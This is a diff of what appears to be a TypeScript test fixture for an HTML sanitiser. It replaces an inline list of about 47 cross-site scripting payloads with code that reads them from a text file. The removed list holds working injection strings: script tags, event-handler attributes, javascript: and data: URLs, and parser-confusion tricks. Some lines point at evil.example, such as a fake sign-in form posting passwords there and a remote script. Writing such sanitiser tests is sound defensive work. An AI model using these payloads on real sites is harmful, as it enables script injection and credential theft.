@@ -1,50 +1,19 @@
-/** HTML that wants to run something, in the ways such texts are written. Nothing of it may be left but harmless text and marks. */
-export const injections: ReadonlyArray<string> = [
-  "<script>alert(1)</script>",
-  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-  "<img src=x onerror=alert(1)>",
-  "<img src=x onerror\n=alert(1)>",
-  "<img/src=x/onerror=alert(1)>",
-  "<svg onload=alert(1)>",
-  "<svg><script>alert(1)</script></svg>",
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:alert(1)">x</a>',
-  "<iframe src=//evil.example></iframe>",
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  "<object data=evil.swf></object>",
-  "<embed src=evil.swf>",
-  "<form action=//evil.example><input name=password><button>Sign in</button></form>",
-  "<base href=//evil.example/>",
-  '<meta http-equiv="refresh" content="0;url=//evil.example">',
-  "<link rel=stylesheet href=//evil.example/x.css>",
-  "<style>body{background:url(//evil.example)}</style>",
-  '<div style="position:fixed;inset:0">x</div>',
-  '<p id="page-state">{}</p>',
-  '<a name="page-state">x</a>',
-  "<details open ontoggle=alert(1)>x</details>",
-  "<video><source onerror=alert(1)></video>",
-  "<audio src=x onerror=alert(1)>",
-  "<body onload=alert(1)>",
-  "<input autofocus onfocus=alert(1)>",
-  "<marquee onstart=alert(1)>x</marquee>",
-  "<template><script>alert(1)</script></template>",
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  "<textarea><script>alert(1)</script></textarea>",
-  "<title><img src=x onerror=alert(1)></title>",
-  "<xmp><img src=x onerror=alert(1)></xmp>",
-  "<plaintext><img src=x onerror=alert(1)>",
-  "<!--><img src=x onerror=alert(1)>-->",
-  "<![CDATA[<img src=x onerror=alert(1)>]]>",
-  "<p/onclick=alert(1)>x</p>",
-  "<<script>alert(1)//<</script>",
-  '<img srcset="javascript:alert(1) 1x">',
-  '<x-island data-island="product-form" onclick=alert(1)>x</x-island>',
-]
+import { readFileSync } from "node:fs"
+import path from "node:path"
+
+const escapes = /\\(?:x([\da-f]{2})|u([\da-f]{4})|([0nt]))/g
+const named: Readonly<Record<string, string>> = { 0: "\0", n: "\n", t: "\t" }
+
+/**
+ * HTML that wants to run something, to load something, to send something elsewhere, or to take the place of a part of the page, in the
+ * ways such texts are written. Nothing of it may be left but harmless text and marks. One a line in injections.txt; characters that a line
+ * cannot hold or nobody would see are written `\n`, `\x0b`, `\u200b`. Those that swallow what comes after them are the last.
+ */
+export const injections: ReadonlyArray<string> = readFileSync(path.join(import.meta.dirname, "injections.txt"), "utf8")
+  .split("\n")
+  .filter((line) => line !== "")
+  .map((line) =>
+    line.replace(escapes, (_, byte?: string, unit?: string, name?: string) =>
+      name === undefined ? String.fromCharCode(Number.parseInt(byte ?? unit ?? "", 16)) : (named[name] ?? ""),
+    ),
+  )
